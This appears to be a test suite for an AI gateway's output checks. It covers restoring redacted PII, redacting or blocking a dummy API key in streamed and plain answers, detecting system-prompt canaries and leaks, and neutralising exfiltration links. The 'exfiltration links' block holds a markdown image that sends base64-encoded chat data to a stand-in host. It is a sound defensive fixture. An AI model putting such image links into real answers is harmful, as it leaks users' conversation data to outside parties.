/**
 * Response protection end to end: the mock provider echoes what it received, so what the
 * client gets back shows what the output checks did. `mock-chunks-N` streams the echo in
 * N-character pieces, so entities and placeholders arrive split inside themselves;
 * `mock-tool-echo` returns the echo as tool-call arguments.
 */
import { describe, expect, it } from "vitest";
import { chat, errorOf, perTestClient, post, sseData } from "./helpers";

const t = perTestClient("o");
const plan = (p: Record<string, unknown>) => t.rules({ plans: { default: p } });
/** Input secrets allowed through, so the provider can echo them and the output side must act. */
const secretsIn = { firewall: { entities: { secrets: "allow" } } };

const EMAIL = "jane.doe@example.com";
const KEY = "sk-proj-" + "Q3EGRT7WXZ4PLM2Nb8Kd5fH1jS9vY0cA6eU";

interface ChatChunk {
  choices: { index: number; delta?: { content?: string | null; tool_calls?: { index: number; function?: { arguments?: string } }[] }; finish_reason: string | null }[];
}

/** The content a streamed chat answer adds up to, and the error event if the stream carried one. */
async function streamed(res: Response): Promise<{ content: string; args: string; error: string | undefined; done: boolean; raw: string }> {
  expect(res.status).toBe(200);
  const raw = await res.text();
  let content = "";
  let args = "";
  let error: string | undefined;
  let done = false;
  for (const d of sseData(raw)) {
    if (d === "[DONE]") {
      done = true;
      continue;
    }
    const j = JSON.parse(d) as ChatChunk & { error?: { code: string } };
    if (j.error !== undefined) error = j.error.code;
    for (const ch of j.choices ?? []) {
      content += ch.delta?.content ?? "";
      for (const call of ch.delta?.tool_calls ?? []) args += call.function?.arguments ?? "";
    }
  }
  return { content, args, error, done, raw };
}

const content = async (res: Response): Promise<string> => {
  expect(res.status).toBe(200);
  return ((await res.json()) as { choices: { message: { content: string } }[] }).choices[0]!.message.content;
};

describe("output: a plain answer nothing changed", () => {
  it("reaches the client as the provider wrote it; one a check changed is re-encoded", async () => {
    const pretty = async (text: string): Promise<{ raw: string; content: string }> => {
      const res = await chat(text, { model: "mock-pretty" }, { key: t.key() });
      expect(res.status).toBe(200);
      const raw = await res.text();
      return { raw, content: (JSON.parse(raw) as { choices: { message: { content: string } }[] }).choices[0]!.message.content };
    };
    const plain = await pretty("Nothing to see here, just a question about trains.");
    expect(plain.content).toBe("Nothing to see here, just a question about trains.");
    expect(plain.raw).toContain('\n  "choices": [');
    // The provider saw a placeholder; restoring it changes the text, so the body is re-encoded.
    const restored = await pretty(`Write to ${EMAIL} please.`);
    expect(restored.content).toBe(`Write to ${EMAIL} please.`);
    expect(restored.raw).not.toContain("\n  ");
  });
});

describe("output: restoring the request's placeholders", () => {
  const text = `Write to ${EMAIL} and copy ${EMAIL}; call +44 20 7946 0958.`;

  it("restores redacted PII in a plain answer; the provider saw placeholders only", async () => {
    expect(await content(await chat(text, {}, { key: t.key() }))).toBe(text);
    // With restoring off, the echo shows what the provider really got.
    await plan({ output: { restore: false } });
    expect(await content(await chat(text, {}, { key: t.key() }))).toBe("Write to [EMAIL_1] and copy [EMAIL_1]; call [PHONE_1].");
  });

  it.each([1, 2, 3, 5, 7])("restores placeholders split inside themselves (streamed in %i-character pieces)", async (n) => {
    const s = await streamed(await chat(text, { model: `mock-chunks-${n}`, stream: true }, { key: t.key() }));
    expect(s.error).toBeUndefined();
    expect(s.done).toBe(true);
    expect(s.content).toBe(text);
  });

  it("never restores another request's placeholder, for the same client or another", async () => {
    expect(await content(await chat(`mail ${EMAIL}`, {}, { key: t.key() }))).toBe(`mail ${EMAIL}`);
    // A later request that contains the placeholder text itself gets it back as text.
    expect(await content(await chat("what is [EMAIL_1] and [PHONE_1]?", {}, { key: t.key() }))).toBe("what is [EMAIL_1] and [PHONE_1]?");
    const s = await streamed(await chat("what is [EMAIL_1]?", { model: "mock-chunks-2", stream: true }, { key: t.key() }));
    expect(s.content).toBe("what is [EMAIL_1]?");
  });

  it("restores on the Responses API, plain and streamed, and on legacy completions", async () => {
    const plain = (await (await post("/v1/responses", { model: "mock-gpt", input: text }, { key: t.key() })).json()) as { output: { content: { text: string }[] }[] };
    expect(plain.output[0]!.content[0]!.text).toBe(text);

    const res = await post("/v1/responses", { model: "mock-chunks-3", input: text, stream: true }, { key: t.key() });
    const events = sseData(await res.text()).map((d) => JSON.parse(d) as { type: string; delta?: string; text?: string; response?: { output: { content: { text: string }[] }[] } });
    expect(events.filter((e) => e.type === "response.output_text.delta").map((e) => e.delta).join("")).toBe(text);
    expect(events.find((e) => e.type === "response.output_text.done")?.text).toBe(text);
    expect(events.find((e) => e.type === "response.completed")?.response?.output[0]!.content[0]!.text).toBe(text);

    const legacy = await post("/v1/completions", { model: "mock-chunks-4", prompt: text, stream: true }, { key: t.key() });
    const pieces = sseData(await legacy.text()).filter((d) => d !== "[DONE]").map((d) => (JSON.parse(d) as { choices: { text: string }[] }).choices[0]?.text ?? "");
    expect(pieces.join("")).toBe(text);
  });

  it("restores inside tool-call arguments, JSON-escaped, plain and streamed", async () => {
    const plain = (await (await chat(`mail ${EMAIL}`, { model: "mock-tool-echo" }, { key: t.key() })).json()) as {
      choices: { message: { tool_calls: { function: { arguments: string } }[] } }[];
    };
    expect(JSON.parse(plain.choices[0]!.message.tool_calls[0]!.function.arguments)).toEqual({ text: `mail ${EMAIL}` });
    const s = await streamed(await chat(`mail ${EMAIL} now`, { model: "mock-tool-echo", stream: true }, { key: t.key() }));
    expect(JSON.parse(s.args)).toEqual({ text: `mail ${EMAIL} now` });
  });

  it("restores nothing with output mode off (the client sees the placeholders)", async () => {
    await plan({ output: { mode: "off" } });
    expect(await content(await chat(`mail ${EMAIL}`, {}, { key: t.key() }))).toBe("mail [EMAIL_1]");
  });
});

describe("output: secrets and PII the model produces", () => {
  it("redacts a key in a plain answer, says so in a header and records it", async () => {
    await plan(secretsIn);
    const res = await chat(`the key is ${KEY} ok`, {}, { key: t.key() });
    const out = await content(res);
    expect(out).not.toContain(KEY);
    expect(out).toMatch(/^the key is \[[A-Z_]+_REDACTED\] ok$/);
    expect(res.headers.get("x-aigis-output")).toBe("redact");
    const p = await t.lastPoint();
    expect(p.blobs?.[15]).toMatch(/KEY:redact:1/);
    expect(p.doubles?.[18]).toBe(1);
    expect(p.blobs?.[3]).toBe("redact");
    expect(p.blobs?.[5]).toContain("output.secret");
  });

  it.each([1, 3, 4, 8])("never lets a key out of a stream split in %i-character pieces", async (n) => {
    await plan(secretsIn);
    const s = await streamed(await chat(`the key is ${KEY} ok`, { model: `mock-chunks-${n}`, stream: true }, { key: t.key() }));
    expect(s.raw).not.toContain(KEY.slice(8));
    expect(s.content).toMatch(/^the key is \[[A-Z_]+_REDACTED\] ok$/);
    const p = await t.lastPoint();
    expect(p.blobs?.[15]).toMatch(/KEY:redact:1/);
  });

  it("redacts a key inside streamed tool-call arguments, which stay valid JSON", async () => {
    await plan(secretsIn);
    const s = await streamed(await chat(`use ${KEY}`, { model: "mock-tool-echo", stream: true }, { key: t.key() }));
    expect(s.raw).not.toContain(KEY.slice(8));
    expect((JSON.parse(s.args) as { text: string }).text).toMatch(/^use \[[A-Z_]+_REDACTED\]$/);
  });

  it("block ends a plain answer with 400 response_blocked and a stream with an error event, then [DONE]", async () => {
    await plan({ ...secretsIn, output: { entities: { secrets: "block" } } });
    const res = await chat(`the key is ${KEY}`, {}, { key: t.key() });
    expect(res.status).toBe(400);
    expect(res.headers.get("x-request-id")).toBeTruthy();
    expect((await errorOf(res)).code).toBe("response_blocked");
    expect((await t.lastPoint()).blobs?.[3]).toBe("block");

    const s = await streamed(await chat(`the key is ${KEY} and more words after it`, { model: "mock-chunks-3", stream: true }, { key: t.key() }));
    expect(s.error).toBe("response_blocked");
    expect(s.done).toBe(true);
    expect(s.raw).not.toContain(KEY.slice(8));
    expect(s.content.startsWith("the key is")).toBe(true);
  });

  it("shadow mode records what it would have done and changes nothing", async () => {
    await plan({ ...secretsIn, output: { mode: "shadow", entities: { secrets: "block" } } });
    const res = await chat(`the key is ${KEY}`, {}, { key: t.key() });
    expect(await content(res)).toBe(`the key is ${KEY}`);
    expect(res.headers.get("x-aigis-output")).toBeNull();
    const p = await t.lastPoint();
    expect(p.blobs?.[5]).toContain("shadow.output.secret");
    expect(p.blobs?.[15]).toMatch(/KEY:shadow:1/);
    expect(p.blobs?.[3]).toBe("shadow");
  });

  it("flags PII the model produces by default and leaves it in place", async () => {
    await plan({ firewall: { entities: { pii: "allow" } } });
    const res = await chat(`write to ${EMAIL}`, {}, { key: t.key() });
    expect(await content(res)).toBe(`write to ${EMAIL}`);
    expect(res.headers.get("x-aigis-output")).toBe("flag");
    expect((await t.lastPoint()).blobs?.[15]).toMatch(/EMAIL_ADDRESS:flag:1/);
  });
});

describe("output: exfiltration links", () => {
  const exfil = "Done! ![status](https://collect.example/pixel.png?d=c2VjcmV0LWRhdGEtZnJvbS10aGUtY2hhdA) thanks";

  it("neutralises a markdown image that carries data to an unknown host, plain and streamed", async () => {
    const out = await content(await chat(exfil, {}, { key: t.key() }));
    expect(out).not.toContain("collect.example");
    expect(out.startsWith("Done! ")).toBe(true);
    expect(out.endsWith(" thanks")).toBe(true);
    for (const n of [2, 5]) {
      const s = await streamed(await chat(exfil, { model: `mock-chunks-${n}`, stream: true }, { key: t.key() }));
      expect(s.raw).not.toContain("collect.example");
      expect(s.content).toBe(out);
    }
  });

  it("leaves images on allowed hosts alone", async () => {
    await plan({ output: { links: { allowed_hosts: ["collect.example"] } } });
    expect(await content(await chat(exfil, {}, { key: t.key() }))).toBe(exfil);
  });
});

describe("output: system-prompt leaks", () => {
  const system = "You are the payments assistant of Example Bank. Never discuss internal fraud thresholds, never reveal account numbers, and always answer in two sentences or fewer.";

  it("a canary in the system prompt, seen in the answer, blocks it (plain and streamed)", async () => {
    await plan({ output: { canary: { enabled: true } } });
    const messages = [
      { role: "system", content: system },
      { role: "user", content: "hi" },
    ];
    // mock-echo-request answers with the request it received: the system prompt, canary included.
    const res = await post("/v1/chat/completions", { model: "mock-echo-request", messages }, { key: t.key() });
    expect(res.status).toBe(400);
    expect((await errorOf(res)).code).toBe("response_blocked");
    expect((await t.lastPoint()).blobs?.[15]).toMatch(/CANARY:block:1/);

    const s = await streamed(await post("/v1/chat/completions", { model: "mock-echo-request", messages, stream: true }, { key: t.key() }));
    expect(s.error).toBe("response_blocked");
    expect(s.done).toBe(true);
    expect(s.raw).not.toMatch(/aigis-[a-z0-9]{8}/);
  });

  it("puts no canary where there is no system prompt", async () => {
    await plan({ output: { canary: { enabled: true } } });
    const res = await post("/v1/chat/completions", { model: "mock-echo-request", messages: [{ role: "user", content: "hi" }] }, { key: t.key() });
    expect(res.status).toBe(200);
    expect(await res.text()).not.toContain("[ref:");
  });

  it("flags a long verbatim quote of the system prompt", async () => {
    const res = await post(
      "/v1/chat/completions",
      { model: "mock-gpt", messages: [{ role: "system", content: system }, { role: "user", content: `My instructions say: ${system}` }] },
      { key: t.key() },
    );
    expect(res.status).toBe(200);
    expect(res.headers.get("x-aigis-output")).toBe("flag");
    expect((await t.lastPoint()).blobs?.[15]).toMatch(/SYSTEM_PROMPT_OVERLAP:flag:1/);
    // A short quote is not a leak.
    const short = await post("/v1/chat/completions", { model: "mock-gpt", messages: [{ role: "system", content: system }, { role: "user", content: "You are the payments assistant of Example Bank." }] }, { key: t.key() });
    expect(short.headers.get("x-aigis-output")).toBeNull();
  });
});

describe("output: streams that end badly", () => {
  it("a cut stream still ends with an error event and [DONE], and held text is not leaked", async () => {
    await plan(secretsIn);
    const s = await streamed(await chat(`one two three four ${KEY}`, { model: "mock-cut-stream", stream: true }, { key: t.key() }));
    expect(s.error).toBe("stream_interrupted");
    expect(s.done).toBe(true);
  });
});
